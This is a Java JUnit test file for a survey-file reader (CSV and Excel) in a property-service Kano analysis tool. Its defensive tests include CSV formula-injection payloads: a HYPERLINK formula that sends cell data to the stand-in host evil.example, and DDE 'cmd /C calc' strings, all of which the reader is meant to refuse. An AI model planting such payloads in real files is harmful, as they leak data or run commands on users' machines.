package com.propertyservice.advisor.kano;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.poi.xssf.usermodel.XSSFRow;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.assertj.core.groups.Tuple;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Survey files as Excel, WPS and their users write them, and the ways they go wrong. */
class SurveyReaderTest {

    static final String SURVEY = """
            respondent,item,functional,dysfunctional
            张三,lift-outage,2,5
            张三,快递代收,1,3
            李四,lift-outage,1,5
            """;

    static final List<SurveyRow> ROWS = List.of(
            new SurveyRow(2, "张三", "lift-outage", 2, 5),
            new SurveyRow(3, "张三", "快递代收", 1, 3),
            new SurveyRow(4, "李四", "lift-outage", 1, 5));

    static SurveyReader.SurveyFile read(byte[] content) {
        return SurveyReader.read(content, 1_000);
    }

    @Test
    void utf8WithAndWithoutByteOrderMarkGbkAndUtf16ReadTheSameRows() {
        byte[] utf8 = SURVEY.getBytes(StandardCharsets.UTF_8);
        byte[] bom = ("\uFEFF" + SURVEY).getBytes(StandardCharsets.UTF_8);
        byte[] gbk = SURVEY.getBytes(Charset.forName("GBK"));
        byte[] utf16 = ("\uFEFF" + SURVEY.replace(',', '\t')).getBytes(StandardCharsets.UTF_16LE);
        assertThat(read(utf8).rows()).isEqualTo(ROWS);
        assertThat(read(utf8).encoding()).isEqualTo("UTF-8");
        assertThat(read(bom).rows()).isEqualTo(ROWS);
        assertThat(read(gbk).rows()).isEqualTo(ROWS);
        assertThat(read(gbk).encoding()).isEqualTo("GB18030");
        assertThat(read(utf16).rows()).isEqualTo(ROWS);
        assertThat(read(utf16).encoding()).isEqualTo("UTF-16");
    }

    @Test
    void columnsInAnotherOrderWithExtraColumnsSemicolonsCrLfAndBlankLinesAreRead() {
        String csv = "Item;Comment;Respondent;Dysfunctional;Functional\r\n"
                + "lift-outage;\"看, 天气\";张三;5;2\r\n"
                + ";;;;\r\n"
                + "快递代收;;张三;3;1\r\n\r\n"
                + "lift-outage;;李四;5;1\r\n";
        SurveyReader.SurveyFile file = read(csv.getBytes(StandardCharsets.UTF_8));
        assertThat(file.rows())
                .extracting(SurveyRow::item, SurveyRow::respondent, SurveyRow::functional, SurveyRow::dysfunctional)
                .containsExactly(
                        Tuple.tuple("lift-outage", "张三", 2, 5),
                        Tuple.tuple("快递代收", "张三", 1, 3),
                        Tuple.tuple("lift-outage", "李四", 1, 5));
        assertThat(file.rows()).extracting(SurveyRow::line).containsExactly(2, 4, 6);
        assertThat(file.unreadable()).isEmpty();
    }

    @Test
    void answersWrittenAsExcelNumbersOrFullWidthDigitsCount() {
        String csv = "respondent,item,functional,dysfunctional\nA,lift-outage,2.0,５\n";
        assertThat(read(csv.getBytes(StandardCharsets.UTF_8)).rows())
                .containsExactly(new SurveyRow(2, "A", "lift-outage", 2, 5));
    }

    @Test
    void rowsWithAnswersOutsideOneToFiveOrEmptyCellsAreListedWithTheirLineAndTheRestRead() {
        String csv = """
                respondent,item,functional,dysfunctional
                A,lift-outage,2,5
                B,lift-outage,0,5
                C,lift-outage,2,6
                D,lift-outage,-1,5
                E,,2,5
                F,lift-outage,two,5
                "G
                H",lift-outage,1,
                I,lift-outage,1,5
                """;
        SurveyReader.SurveyFile file = read(csv.getBytes(StandardCharsets.UTF_8));
        assertThat(file.rows())
                .extracting(SurveyRow::respondent, SurveyRow::line)
                .containsExactly(Tuple.tuple("A", 2), Tuple.tuple("I", 10));
        assertThat(file.badRows()).isEqualTo(6);
        assertThat(file.unreadable())
                .extracting(RowProblem::line, RowProblem::column, RowProblem::value, RowProblem::reason)
                .containsExactly(
                        Tuple.tuple(3, "functional", "0", RowProblem.Reason.NOT_AN_ANSWER),
                        Tuple.tuple(4, "dysfunctional", "6", RowProblem.Reason.NOT_AN_ANSWER),
                        Tuple.tuple(5, "functional", "-1", RowProblem.Reason.NOT_AN_ANSWER),
                        Tuple.tuple(6, "item", "", RowProblem.Reason.EMPTY),
                        Tuple.tuple(7, "functional", "two", RowProblem.Reason.NOT_AN_ANSWER),
                        // a quoted cell spanning two lines: the row starts on line 8
                        Tuple.tuple(8, "dysfunctional", "", RowProblem.Reason.EMPTY));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
                "+cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "\t=1+1",
                " =1+1"
            })
    void aCellASpreadsheetWouldRunAsAFormulaRefusesTheWholeFile(String cell) {
        String csv = "respondent,item,functional,dysfunctional\nA,lift-outage,2,5\nB," + quoted(cell) + ",1,5\n";
        assertThatThrownBy(() -> read(csv.getBytes(StandardCharsets.UTF_8)))
                .isInstanceOfSatisfying(SurveyFileException.class, e -> {
                    assertThat(e.reason()).isEqualTo(SurveyFileException.Reason.FORMULA_CELL);
                    assertThat(e.arguments()).containsExactly(3, "item");
                });
    }

    @Test
    void aFormulaInAnAnswerOrRespondentCellRefusesTheFileButANegativeAnswerIsJustAWrongAnswer() {
        String formula = "respondent,item,functional,dysfunctional\nA,lift-outage,=1+1,5\n";
        assertThatThrownBy(() -> read(formula.getBytes(StandardCharsets.UTF_8)))
                .isInstanceOfSatisfying(
                        SurveyFileException.class,
                        e -> assertThat(e.arguments()).containsExactly(2, "functional"));
        String respondent = "respondent,item,functional,dysfunctional\n@A,lift-outage,1,5\n";
        assertThatThrownBy(() -> read(respondent.getBytes(StandardCharsets.UTF_8)))
                .isInstanceOfSatisfying(
                        SurveyFileException.class,
                        e -> assertThat(e.arguments()).containsExactly(2, "respondent"));
        String negative = "respondent,item,functional,dysfunctional\nA,lift-outage,-1,5\n";
        assertThat(read(negative.getBytes(StandardCharsets.UTF_8)).unreadable()).hasSize(1);
    }

    @Test
    void wrongColumnsNameWhatIsExpectedAndWhatTheFileHas() {
        String csv = "受访者,项目,正向,反向\nA,lift-outage,2,5\n";
        assertThatThrownBy(() -> read(csv.getBytes(StandardCharsets.UTF_8)))
                .isInstanceOfSatisfying(SurveyFileException.class, e -> {
                    assertThat(e.reason()).isEqualTo(SurveyFileException.Reason.WRONG_COLUMNS);
                    assertThat(e.arguments())
                            .containsExactly("respondent, item, functional, dysfunctional", "受访者, 项目, 正向, 反向");
                });
        String twice = "respondent,item,functional,functional,dysfunctional\nA,lift-outage,2,2,5\n";
        assertThatThrownBy(() -> read(twice.getBytes(StandardCharsets.UTF_8)))
                .isInstanceOfSatisfying(
                        SurveyFileException.class,
                        e -> assertThat(e.reason()).isEqualTo(SurveyFileException.Reason.WRONG_COLUMNS));
    }

    @Test
    void anEmptyOrBlankFileIsRefusedAndAHeaderAloneHasNoRows() {
        assertThat(reason(new byte[0])).isEqualTo(SurveyFileException.Reason.EMPTY_FILE);
        assertThat(reason("\uFEFF \r\n\r\n".getBytes(StandardCharsets.UTF_8)))
                .isEqualTo(SurveyFileException.Reason.EMPTY_FILE);
        assertThat(reason(",,,\n,,,\n".getBytes(StandardCharsets.UTF_8)))
                .isEqualTo(SurveyFileException.Reason.EMPTY_FILE);
        SurveyReader.SurveyFile header =
                read("respondent,item,functional,dysfunctional\n".getBytes(StandardCharsets.UTF_8));
        assertThat(header.rows()).isEmpty();
        assertThat(header.badRows()).isZero();
    }

    @Test
    void bytesThatAreNeitherUtf8NorGb18030OrAnOldWorkbookOrAnotherZipAreRefused() throws IOException {
        assertThat(reason(new byte[] {(byte) 0xFF, (byte) 0xFF, 0x41, (byte) 0x80, (byte) 0xFF}))
                .isEqualTo(SurveyFileException.Reason.UNKNOWN_ENCODING);
        assertThat(reason(new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, 0, 0, 0, 0}))
                .isEqualTo(SurveyFileException.Reason.OLD_EXCEL);
        ByteArrayOutputStream zip = new ByteArrayOutputStream();
        try (ZipOutputStream out = new ZipOutputStream(zip)) {
            out.putNextEntry(new ZipEntry("readme.txt"));
            out.write("not a workbook".getBytes(StandardCharsets.UTF_8));
        }
        assertThat(reason(zip.toByteArray())).isEqualTo(SurveyFileException.Reason.UNREADABLE_FILE);
        assertThat(reason("respondent\u0000,item".getBytes(StandardCharsets.UTF_8)))
                .isEqualTo(SurveyFileException.Reason.UNREADABLE_FILE);
    }

    @Test
    void moreRowsThanTheLimitRefuseTheFile() {
        StringBuilder csv = new StringBuilder("respondent,item,functional,dysfunctional\n");
        for (int i = 0; i < 11; i++) {
            csv.append("R").append(i).append(",lift-outage,2,5\n");
        }
        assertThatThrownBy(() -> SurveyReader.read(csv.toString().getBytes(StandardCharsets.UTF_8), 10))
                .isInstanceOfSatisfying(SurveyFileException.class, e -> {
                    assertThat(e.reason()).isEqualTo(SurveyFileException.Reason.TOO_MANY_ROWS);
                    assertThat(e.arguments()).containsExactly(10);
                });
        assertThat(SurveyReader.read(csv.toString().getBytes(StandardCharsets.UTF_8), 11)
                        .rows())
                .hasSize(11);
    }

    @Test
    void anExcelWorkbookIsReadFromItsFirstSheetWithRowNumbersAsExcelShowsThem() throws IOException {
        byte[] workbook = workbook(sheet -> {
            row(sheet, 0, "respondent", "item", "functional", "dysfunctional");
            row(sheet, 1, "张三", "lift-outage", 2, 5);
            // row 3 left empty, as a blank line in a sheet
            row(sheet, 3, "李四", "快递代收", "1", "3");
            row(sheet, 4, "王五", "lift-outage", 7, 5);
        });
        SurveyReader.SurveyFile file = read(workbook);
        assertThat(file.format()).isEqualTo("XLSX");
        assertThat(file.rows())
                .containsExactly(new SurveyRow(2, "张三", "lift-outage", 2, 5), new SurveyRow(4, "李四", "快递代收", 1, 3));
        assertThat(file.unreadable())
                .extracting(RowProblem::line, RowProblem::column, RowProblem::value)
                .containsExactly(Tuple.tuple(5, "functional", "7.0"));
    }

    @Test
    void aFormulaInAWorkbookCellRefusesTheFileEvenWhenItsResultLooksHarmless() throws IOException {
        byte[] workbook = workbook(sheet -> {
            row(sheet, 0, "respondent", "item", "functional", "dysfunctional");
            row(sheet, 1, "张三", new Formula("HYPERLINK(\"http://evil.example\",\"lift-outage\")"), 2, 5);
        });
        assertThatThrownBy(() -> read(workbook)).isInstanceOfSatisfying(SurveyFileException.class, e -> {
            assertThat(e.reason()).isEqualTo(SurveyFileException.Reason.FORMULA_CELL);
            assertThat(e.arguments()).containsExactly(2, "item");
        });
    }

    @Test
    void aSpreadsheetFormulaIsRecognisedAndNeutralisedForExport() {
        for (String formula : List.of("=1+1", "+1", "-1+cmd", "@A1", "\tx", "\rx", "  =1")) {
            assertThat(SurveyReader.looksLikeFormula(formula)).as(formula).isTrue();
            assertThat(AnalysisExport.neutralise(formula)).as(formula).isEqualTo("'" + formula);
        }
        for (String text : List.of("lift-outage", "快递代收", "a=b", "R001", "")) {
            assertThat(SurveyReader.looksLikeFormula(text)).as(text).isFalse();
            assertThat(AnalysisExport.neutralise(text)).isEqualTo(text);
        }
    }

    private static SurveyFileException.Reason reason(byte[] content) {
        try {
            read(content);
        } catch (SurveyFileException e) {
            return e.reason();
        }
        return null;
    }

    private static String quoted(String cell) {
        return "\"" + cell.replace("\"", "\"\"") + "\"";
    }

    interface SheetWriter {
        void write(XSSFSheet sheet);
    }

    static byte[] workbook(SheetWriter writer) throws IOException {
        try (XSSFWorkbook workbook = new XSSFWorkbook();
                ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            writer.write(workbook.createSheet("问卷"));
            workbook.createSheet("notes").createRow(0).createCell(0).setCellValue("ignored");
            workbook.write(out);
            return out.toByteArray();
        }
    }

    /** A cell that holds a formula. */
    record Formula(String text) {}

    /** A sheet row of text, numbers and formulas. */
    static void row(XSSFSheet sheet, int index, Object... values) {
        XSSFRow row = sheet.createRow(index);
        for (int i = 0; i < values.length; i++) {
            if (values[i] instanceof Number number) {
                row.createCell(i).setCellValue(number.doubleValue());
            } else if (values[i] instanceof Formula formula) {
                row.createCell(i).setCellFormula(formula.text());
            } else {
                row.createCell(i).setCellValue(String.valueOf(values[i]));
            }
        }
    }
}
